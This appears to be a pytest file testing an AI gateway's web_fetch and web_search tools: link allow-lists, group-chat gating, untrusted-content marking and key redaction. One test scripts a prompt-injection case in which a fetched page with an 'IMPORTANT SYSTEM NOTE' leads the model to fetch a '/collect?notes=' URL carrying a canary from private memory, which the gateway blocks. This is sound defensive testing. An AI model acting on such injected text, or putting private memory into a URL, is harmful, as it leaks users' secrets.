"""web_fetch and web_search as the model meets them, inside a gateway: which contexts have them,
which URLs a conversation may fetch ("linked"), untrusted marking, and no exfiltration of
private memory through a URL."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator

import pytest

from gateway.agent.conversation import Message
from gateway.agent.sessions import compacted_marker
from gateway.agent.tools import ToolContext
from gateway.agent.web.links import link_key, urls_in_messages, urls_in_text
from gateway.workspace.seed import ensure_workspace
from memory.layout import dm_session_key, group_session_key, heartbeat_session_key
from tests.fakes.search_server import FakeSearchServer
from tests.fakes.web_server import FakeWebServer
from tests.gateway.agent.test_web_fetch import TableResolver

CANARY = "zebracanary-MEMORY-4417"
OWNER = "fakechat-alice"


@pytest.fixture
async def site() -> AsyncIterator[FakeWebServer]:
    async with FakeWebServer() as server:
        yield server


@pytest.fixture
async def api() -> AsyncIterator[FakeSearchServer]:
    async with FakeSearchServer() as server:
        yield server


async def web_gateway(make_gateway, llm, site, api, **web):
    settings = {
        "allow_networks": ["127.0.0.1/32"],
        "backend": "searxng",
        "search_url": api.base_url,
        **web,
    }
    resolver = TableResolver({"pages.test": ["127.0.0.1"], "news.test": ["127.0.0.1"]})
    gateway, channel = await make_gateway(
        llm, owner=OWNER, web=settings, web_tools={"resolver": resolver}
    )
    return gateway, channel


def tool_results(request: dict) -> list[dict]:
    return [
        block
        for message in request["messages"]
        if isinstance(message["content"], list)
        for block in message["content"]
        if block.get("type") == "tool_result"
    ]


# -- URL extraction and matching -------------------------------------------------------------


def test_urls_are_found_in_what_people_write() -> None:
    text = (
        "see https://pages.test/a?x=1, and (http://news.test/b) or example.org/page. "
        "Also [docs](https://pages.test/wiki/Foo_(bar)) mail me at bob@mail.test"
    )
    assert urls_in_text(text) == [
        "https://pages.test/a?x=1",
        "http://news.test/b",
        "https://example.org/page",
        "https://pages.test/wiki/Foo_(bar)",
    ]


def test_matching_ignores_scheme_default_port_slash_and_fragment_only() -> None:
    same = ["https://Pages.test/a/", "http://pages.test/a", "https://pages.test:443/a#top"]
    assert len({link_key(url) for url in same}) == 1
    assert link_key("https://pages.test/a?x=1") != link_key("https://pages.test/a?x=2")
    assert link_key("https://pages.test/a") != link_key("https://pages.test/b")
    assert link_key("https://pages.test:8443/a") != link_key("https://pages.test/a")
    assert link_key("ftp://pages.test/a") is None


def test_only_the_persons_own_turns_count() -> None:
    history = [
        Message("user", "read https://pages.test/mine"),
        compacted_marker("the person liked https://pages.test/summary"),  # the model wrote it
        Message("assistant", "try https://pages.test/assistant"),
        Message("tool", "found https://pages.test/tool", tool_call_id="1", tool_name="x"),
    ]
    assert urls_in_messages(history) == {link_key("https://pages.test/mine")}


# -- which contexts have the tools -----------------------------------------------------------


async def test_private_chats_have_the_web_tools_and_groups_only_when_enabled(
    anthropic_server, make_gateway, site, api, tmp_path
) -> None:
    gateway, channel = await web_gateway(make_gateway, anthropic_server, site, api)
    await channel.inject("alice", "hi")
    await channel.inject("bob", "hi")  # another person's DM, private to them
    await channel.inject("alice", "hi group", chat_type="group", chat_id="g1")
    await channel.wait_for(3)
    names = [{tool["name"] for tool in request["tools"]} for request in anthropic_server.requests]
    assert all({"web_fetch", "web_search"} <= tools for tools in names[:2])
    assert not names[2] & {"web_fetch", "web_search"}
    # The second lock: the tool itself refuses a group context.
    group = ToolContext(tmp_path, group_session_key("fakechat", "g1"), False)
    outcome = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": site.url("/article")}, group
    )
    assert outcome.is_error and "not enabled in group chats" in outcome.text
    assert "[web] groups = true" in outcome.text


async def test_groups_get_the_tools_when_the_owner_enables_them(
    anthropic_server, make_gateway, site, api
) -> None:
    _, channel = await web_gateway(make_gateway, anthropic_server, site, api, groups=True)
    link = site.url("/article", host="pages.test")
    anthropic_server.reply_tool_call("web_fetch", {"url": link})
    anthropic_server.reply_text("done")
    await channel.inject("carol", f"what does {link} say?", chat_type="group", chat_id="g1")
    await channel.wait_for(1)
    assert {"web_fetch", "web_search"} <= {t["name"] for t in anthropic_server.requests[0]["tools"]}
    result = tool_results(anthropic_server.requests[-1])[0]
    assert not result.get("is_error") and "sunny with a high of 24" in json.dumps(result)


async def test_web_enabled_false_means_no_web_tools(
    anthropic_server, make_gateway, site, api
) -> None:
    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, enabled=False)
    assert "web_fetch" not in gateway.parts.setup.private_tools


# -- fetching what the person linked, and nothing else ---------------------------------------


async def test_the_model_fetches_a_link_the_person_sent_and_reads_it_as_untrusted(
    anthropic_server, make_gateway, site, api
) -> None:
    _, channel = await web_gateway(make_gateway, anthropic_server, site, api)
    link = site.url("/article", host="pages.test")
    same_page = site.url("/article#friday", host="PAGES.test")
    anthropic_server.reply_tool_call("web_fetch", {"url": same_page})
    anthropic_server.reply_text("It will be sunny, 24 degrees.")
    await channel.inject("alice", f"What's the weather on Friday? {link}")
    await channel.wait_for(1)
    assert channel.texts() == ["It will be sunny, 24 degrees."]
    result = tool_results(anthropic_server.requests[-1])[0]
    text = json.dumps(result)
    assert not result.get("is_error")
    assert "Title: Lisbon weather on Friday" in text and "high of 24 degrees" in text
    assert "untrusted content from the web" in text and "<<<untrusted web content" in text


async def test_a_url_the_person_never_sent_is_refused_and_nothing_leaves(
    anthropic_server, make_gateway, site, api, tmp_path
) -> None:
    """The exfiltration attempt: private memory put into a URL the model made up."""
    gateway, channel = await web_gateway(make_gateway, anthropic_server, site, api)
    workspace = ensure_workspace(tmp_path / "workspaces", OWNER)
    (workspace / "MEMORY.md").write_text(f"# Memory\n- door code {CANARY}\n")
    anthropic_server.reply_tool_call("web_fetch", {"url": site.url("/injection")})
    anthropic_server.reply_tool_call(
        "web_fetch", {"url": site.url(f"/collect?notes={CANARY}", host="pages.test")}
    )
    anthropic_server.reply_text("I won't do that.")
    await channel.inject("alice", f"summarise {site.url('/injection')}")
    await channel.wait_for(1)
    first, second = tool_results(anthropic_server.requests[-1])
    assert not first.get("is_error") and "IMPORTANT SYSTEM NOTE" in json.dumps(first)
    assert second.get("is_error")
    refusal = json.dumps(second)
    assert "was not sent by the person" in refusal and "[web] allow_hosts" in refusal
    assert all(CANARY not in seen.path for seen in site.requests)
    assert site.paths() == ["/injection"]
    assert "web_fetch" in gateway.parts.setup.private_tools


async def test_search_results_may_be_fetched_and_are_remembered_per_conversation(
    anthropic_server, make_gateway, site, api
) -> None:
    _, channel = await web_gateway(make_gateway, anthropic_server, site, api)
    api.result_base = site.url("", host="pages.test")
    anthropic_server.reply_tool_call("web_search", {"query": "lisbon weather", "count": 2})
    anthropic_server.reply_tool_call("web_fetch", {"url": f"{api.result_base}/article?n=2"})
    anthropic_server.reply_text("Sunny.")
    await channel.inject("alice", "weather in Lisbon on Friday?")
    await channel.wait_for(1)
    search, fetch = tool_results(anthropic_server.requests[-1])
    assert "2 results for 'lisbon weather' (searxng)" in json.dumps(search)
    assert "<<<untrusted web content" in json.dumps(search)
    assert not fetch.get("is_error") and "high of 24" in json.dumps(fetch)
    # Another conversation (bob's DM) did not search: the same URL is not fetchable there.
    anthropic_server.reply_tool_call("web_fetch", {"url": f"{api.result_base}/article?n=2"})
    anthropic_server.reply_text("no")
    await channel.inject("bob", "hello")
    await channel.wait_for(2)
    assert tool_results(anthropic_server.requests[-1])[0].get("is_error")
    assert api.queries == [("searxng", "lisbon weather")]


async def test_allow_hosts_and_fetch_any_open_the_policy(
    anthropic_server, make_gateway, site, api
) -> None:
    gateway, _ = await web_gateway(
        make_gateway, anthropic_server, site, api, allow_hosts=["*.test"]
    )
    workspace = ensure_workspace(gateway.settings.workspaces_dir, OWNER)
    ctx = ToolContext(workspace, dm_session_key(OWNER), True)
    result = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": site.url("/plain", host="news.test")}, ctx
    )
    assert not result.is_error and "just some plain text" in result.text
    refused = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": site.url("/plain")}, ctx
    )
    assert refused.is_error  # 127.0.0.1 is not on the allow list

    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, fetch="any")
    result = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": site.url("/plain")}, ctx
    )
    assert not result.is_error


async def test_heartbeat_prompts_do_not_count_as_the_persons_links(
    anthropic_server, make_gateway, site, api
) -> None:
    """A heartbeat's user turn comes from HEARTBEAT.md, which the model can write."""
    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api)
    workspace = ensure_workspace(gateway.settings.workspaces_dir, OWNER)
    key = heartbeat_session_key(OWNER)
    session = await gateway.parts.sessions.get(workspace, key)
    link = site.url("/article")
    session.record(Message("user", f"check {link}"))
    result = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": link}, ToolContext(workspace, key, True)
    )
    assert result.is_error and "not sent by the person" in result.text
    dm = dm_session_key(OWNER)
    (await gateway.parts.sessions.get(workspace, dm)).record(Message("user", f"check {link}"))
    result = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": link}, ToolContext(workspace, dm, True)
    )
    assert not result.is_error


async def test_long_pages_are_read_in_parts_from_the_cache(
    anthropic_server, make_gateway, site, api
) -> None:
    gateway, _ = await web_gateway(
        make_gateway, anthropic_server, site, api, fetch="any", fetch_max_chars=5_000
    )
    ctx = ToolContext(
        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
    )
    first = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": site.url("/long")}, ctx
    )
    assert "Showed characters 0-5,000 of" in first.text and "offset=5000" in first.text
    second = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": site.url("/long"), "offset": 5000, "max_chars": 1000}, ctx
    )
    assert "Showed characters 5,000-6,000 of" in second.text
    assert site.paths().count("/long") == 1  # the second part came from the cache
    past = await gateway.parts.setup.private_tools.run(
        "web_fetch", {"url": site.url("/long"), "offset": 10_000_000}, ctx
    )
    assert past.is_error and "past the end" in past.text
    for bad in ({"url": 5}, {"url": site.url("/long"), "max_chars": 10}, {"link": "x"}):
        outcome = await gateway.parts.setup.private_tools.run("web_fetch", bad, ctx)
        assert outcome.is_error and outcome.text.startswith("web_fetch:")


async def test_refusals_reach_the_model_as_one_line(
    anthropic_server, make_gateway, site, api
) -> None:
    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, fetch="any")
    ctx = ToolContext(
        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
    )
    for path, why in (
        ("/binary", "image/png, not a web page"),
        ("/to-private", "which is refused: 10.0.0.1 is a private address"),
        ("/missing", "HTTP 404"),
    ):
        outcome = await gateway.parts.setup.private_tools.run(
            "web_fetch", {"url": site.url(path)}, ctx
        )
        assert outcome.is_error and why in outcome.text and "\n" not in outcome.text
    search = await gateway.parts.setup.private_tools.run("web_search", {"query": "  "}, ctx)
    assert search.is_error and "empty" in search.text


async def test_search_without_a_usable_backend_names_the_setting(
    anthropic_server, make_gateway, site, api, monkeypatch
) -> None:
    monkeypatch.delenv("TAVILY_API_KEY", raising=False)
    gateway, _ = await web_gateway(make_gateway, anthropic_server, site, api, backend="tavily")
    ctx = ToolContext(
        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
    )
    outcome = await gateway.parts.setup.private_tools.run("web_search", {"query": "x"}, ctx)
    assert outcome.is_error and "TAVILY_API_KEY" in outcome.text


async def test_a_search_key_from_the_environment_is_masked_in_results(
    anthropic_server, make_gateway, site, api, monkeypatch
) -> None:
    from tests.fakes.search_server import BRAVE_KEY

    monkeypatch.setenv("BRAVE_API_KEY", BRAVE_KEY)
    gateway, _ = await web_gateway(
        make_gateway,
        anthropic_server,
        site,
        api,
        backend="brave",
        search_url=f"{api.base_url}/res/v1/web/search",
    )
    ctx = ToolContext(
        ensure_workspace(gateway.settings.workspaces_dir, OWNER), dm_session_key(OWNER), True
    )
    outcome = await gateway.parts.setup.private_tools.run(
        "web_search", {"query": f"echo {BRAVE_KEY}"}, ctx
    )
    assert not outcome.is_error and BRAVE_KEY not in outcome.text and "[redacted]" in outcome.text
